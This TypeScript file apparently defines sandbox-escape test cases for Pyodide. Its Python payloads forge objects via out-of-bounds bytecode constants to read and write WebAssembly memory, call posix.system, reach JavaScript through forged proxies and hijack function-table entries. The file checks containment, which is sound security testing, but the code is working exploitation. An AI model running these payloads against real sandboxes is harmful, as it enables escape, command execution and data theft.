import type { Attack, Limit, Outside } from "../escape.ts";
import { goalsOf, quoted, restored, thenRun } from "./goals.ts";

/**
 * A constant that a program's bytecode takes from beyond its tuple is whatever address lies there: a bytes object with the
 * fields of a bytearray of 2 GB becomes all of WebAssembly's memory, to read and to write.
 */
const constant = `i = (p - id(()) - 16) // 4 % 2**30
    arg = lambda op, s: bytes([o.opmap[op], i >> s & 255])
    code = bytes([o.opmap['RESUME'], 0]) + b''.join(arg('EXTENDED_ARG', s) for s in (24, 16, 8)) + arg('LOAD_CONST', 0) + bytes([o.opmap['RETURN_VALUE'], 0])`;

/** Ways to run bytecode of one's own: each defines `at`, the object whose address lies at `p`. */
const runners = {
  "code.replace": `def at(p):
    ${constant}
    f = lambda: 0
    f.__code__ = f.__code__.replace(co_consts=(), co_code=code)
    return f()`,
  "a new code object": `def at(p):
    ${constant}
    c = (lambda: 0).__code__
    return eval(type(c)(0, 0, 0, 0, 2, 3, code, (), (), (), '', '', '', 1, b'', b''))`,
  marshal: `import marshal
def at(p):
    ${constant}
    nops = bytes([o.opmap['NOP'], 7]) * (len(code) // 2)
    c = (lambda: 0).__code__.replace(co_consts=(), co_code=nops)
    return eval(marshal.loads(marshal.dumps(c).replace(nops, code)))`,
  pickle: `import pickle, types, builtins
builtins.code = types.CodeType
def at(p):
    ${constant}
    class P:
        def __reduce__(self): return types.CodeType, (0, 0, 0, 0, 2, 3, code, (), (), (), '', '', '', 1, b'', b'')
    return eval(pickle.loads(pickle.dumps(P())))`,
} as const;

const memory = (runner: keyof typeof runners): string => `import struct, opcode as o
keep = []
${runners[runner]}
def forge(b):
    keep.append((b, struct.pack('I', id(b) + 16)))
    return at(id(keep[-1][1]) + 16)
mem = forge(struct.pack('7I', 2**28, id(bytearray), 2**31 - 1, 2**31 - 1, 0, 0, 0))
word = lambda p: struct.unpack('I', mem[p:p+4])[0]
def find(pattern, ok=lambda p: True):
    big = bytes(8) + mem[8:2**25]; p = big.find(pattern)
    while p >= 0 and not ok(p): p = big.find(pattern, p + 1)
    return p
`;

/** A built-in function whose method table is found in memory by its name: no module has to be there. */
const builtin = `def method(name, flags):
    got = []
    def named(p): got.append(find(struct.pack('I', p), lambda m: m % 4 == 0 and word(m + 8) == flags)); return got[-1] >= 0
    find(name + b'\\0', named)
    return got[-1]
def function(template, m):
    f = bytearray(mem[id(template):id(template) + 28]); f[0:4] = struct.pack('I', 2**28); f[8:12] = struct.pack('I', m)
    return forge(bytes(f))
`;

/** A proxy of whatever JavaScript keeps under a number: the type is enough. */
const proxies = `t = [t for t in type.__subclasses__(object) if t.__name__ == 'JsProxy']
def proxy(n): return forge(struct.pack('12I', 2**28, id(next(k for k in t if k.__basicsize__ == 48)), 0, 0, 0, 0, 0, 0, 0, n, 0, 0))
def functions():
    for n in (3, 5, 7):
        try:
            f = proxy(n).constructor.constructor
            if 'native code' in str(f): yield f
        except Exception: pass
`;

/** Where `emscripten_console_log` lies in the table of functions of Pyodide 314.0.7: a call by its number goes through no import. */
const CONSOLE_LOG = 14168;

/** An object of Python's that is a text of C's too: the number of its references, its type, and then a line with a reply. */
const text = `class T: pass
pad = []
while any(b == 0 for b in id(T).to_bytes(4, 'little')): pad.append(bytearray(10**6)); T = type('T', (), {})
text = b'text' + struct.pack('I', id(T)) + b'\\n{"value": "ESCAPED"}\\n\\0'
`;

/** The function at a place of the table, called as if it were the finaliser of generators. */
const line = (slot: number) => `${text}import types
w = types.GeneratorType.__del__
old = mem[id(w):id(w) + 28]
for offset, value in ((8, id(T)), (24, ${slot})): mem[id(w) + offset:id(w) + offset + 4] = struct.pack('I', value)
try: w(forge(text))
finally: mem[id(w) + 8:id(w) + 28] = old[8:]
'held'`;

/** The same, as a method without arguments whose self is the text: where the interpreter calls methods by JavaScript. */
const method = (
  slot: number,
) => `${text}table = struct.pack('4I', word(word(id(len) + 8)), ${slot}, 4, 0); keep.append((table, text))
import gc
f = bytearray(mem[id(gc.isenabled):id(gc.isenabled) + 28]); f[0:4] = struct.pack('I', 2**28); f[8:16] = struct.pack('2I', id(table) + 16, id(text) + 16)
try: forge(bytes(f))()
except SystemError: pass
'held'`;

export const forged = (outside: Outside): readonly Attack[] => {
  const goals = goalsOf(outside);
  const readable = quoted(`test -r '${outside.canary}'`);
  const attack = (name: string, runner: keyof typeof runners, code: string): Attack => ({
    name: `forged: ${runner}, ${name}`,
    code: `${restored}${memory(runner)}${code}`,
  });
  const system = `import posix
'ESCAPED' if function(posix.stat, method(b'system', 0x82))(${readable}) == 0 else 'held'`;
  const any = (goal: string) => `${proxies}F = next(functions())${thenRun(goal)}`;
  return [
    attack("the function behind os.system", "code.replace", builtin + system),
    attack("the function behind os.system", "a new code object", builtin + system),
    attack("the function behind os.system", "marshal", builtin + system),
    attack("the function behind os.system", "pickle", builtin + system),
    attack(
      "posix.system in the place of len",
      "code.replace",
      `${builtin}import posix
m = method(b'system', 0x82); s = id(posix.stat) + 8; old = mem[s:s + 4]
mem[s:s + 4] = struct.pack('I', m)
try: r = posix.stat(${readable})
finally: mem[s:s + 4] = old
'ESCAPED' if r == 0 else 'held'`,
    ),
    attack("a proxy by its number, tcp", "marshal", any(goals.tcp)),
    attack("a proxy by its number, read", "code.replace", any(goals.read)),
    attack("a proxy by its number, environment", "a new code object", any(goals.environment)),
    attack("a proxy by its number, process", "marshal", any(goals.process)),
    attack("a proxy by its number, write", "pickle", any(goals.write)),
    attack("a line by way of the table of functions", "code.replace", line(CONSOLE_LOG)),
    attack("a line by way of the table of functions", "marshal", line(CONSOLE_LOG)),
    attack("a method of the table of functions", "code.replace", method(CONSOLE_LOG)),
  ];
};

/** Only the program's own reply may come of it, or its end: not a reply that cannot be read, and no path of the host. */
export const forgedLimits: readonly Limit[] = [
  ["a line by way of the table of functions", line(CONSOLE_LOG)],
  ["a line of errors by way of the table of functions", line(CONSOLE_LOG + 1)],
  ["a line of standard output by way of the table of functions", line(CONSOLE_LOG + 4)],
  ["a line of standard error by way of the table of functions", line(CONSOLE_LOG + 5)],
  ["an error of a function for graphics", line(CONSOLE_LOG - 200)],
].map(([name = "", code = ""]) => ({
  name: `second set: ${name}`,
  code: `${restored}${memory("code.replace")}${code}`,
  holds: ({ value, error }) =>
    (value === "held" || /died|ended/.test(error ?? "")) && !/node_modules|file:\/\//.test(error ?? ""),
}));
